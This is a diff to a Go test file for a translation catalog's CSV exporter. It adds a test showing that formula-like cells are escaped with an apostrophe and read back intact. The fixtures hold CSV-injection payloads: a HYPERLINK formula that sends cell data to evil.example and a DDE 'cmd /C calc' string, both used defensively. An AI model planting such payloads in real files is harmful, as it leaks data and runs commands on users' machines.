@@ -2,6 +2,7 @@ package csvfile
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"os"
 	"path/filepath"
@@ -37,8 +38,8 @@ func TestWriteGolden(t *testing.T) {
 	if err := Write(&b, "en", "tk", fixture(), Options{}); err != nil {
 		t.Fatal(err)
 	}
-	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFFid,source,target,state,note,document,locale,previous_source,terms,base\r\n")) {
-		t.Errorf("no byte-order mark or header: %q", b.Bytes()[:80])
+	if !bytes.HasPrefix(b.Bytes(), []byte("\uFEFFid,source,target,state,note,document,locale,previous_source,terms,base,escaped\r\n")) {
+		t.Errorf("no byte-order mark or header: %q", b.Bytes()[:90])
 	}
 	golden.File(t, filepath.Join(testdata, "export.tk.csv"), b.Bytes())
 }
@@ -117,5 +118,55 @@ func TestReadMalformed(t *testing.T) {
 				t.Errorf("%v is not a *input.Error", err)
 			}
 		})
+	}
+}
+
+// The attack of CSV injection: cells that a spreadsheet would run as
+// formulas are written with an apostrophe before them (OWASP), and read
+// back exactly as they were; a translator's own leading apostrophe, in a
+// cell the export did not escape, stays.
+func TestFormulasNeutralised(t *testing.T) {
+	seg := func(id, src, tgt, note string) catalog.Segment {
+		return catalog.Segment{ID: id, Source: src, Target: tgt, Note: note, State: catalog.Translated, SourceHash: catalog.Hash(src)}
+	}
+	c := &catalog.Catalog{Document: "news", Locale: "ru", SourceLocale: "en", Segments: []catalog.Segment{
+		seg("aaaaaaaaaaa1", `=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+7 993 12 34 56", "@SUM(1+1)*cmd|' /C calc'!A0"),
+		seg("aaaaaaaaaaa2", "-5 °C at night.", "\tОтступ.", "\r\nnote"),
+		seg("aaaaaaaaaaa3", "'Tis the season.", "'Так уж водится.", "'=not ours'"),
+	}}
+	var b bytes.Buffer
+	if err := Write(&b, "en", "ru", []catalog.Pair{{Target: c}}, Options{}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\uFEFF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s: column %s starts a formula: %q", row[0], Columns[i], cell)
+			}
+		}
+	}
+	ex, err := Parse("back.csv", b.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, u := range ex.Units {
+		s := c.Segments[i]
+		if u.Source != s.Source || u.Target != s.Target || u.Note != strings.ReplaceAll(s.Note, "\r\n", "\n") {
+			t.Errorf("%s read back as %q / %q / %q", s.ID, u.Source, u.Target, u.Note)
+		}
+	}
+
+	// A translator replaces an escaped target with text of their own that
+	// starts with an apostrophe: it is kept whole.
+	edited := strings.Replace(b.String(), "'+7 993 12 34 56", "'Quoted' text", 1)
+	if ex, err = Parse("edited.csv", []byte(edited)); err != nil {
+		t.Fatal(err)
+	}
+	if got := ex.Units[0].Target; got != "'Quoted' text" {
+		t.Errorf("the translator's text came back as %q", got)
 	}
 }
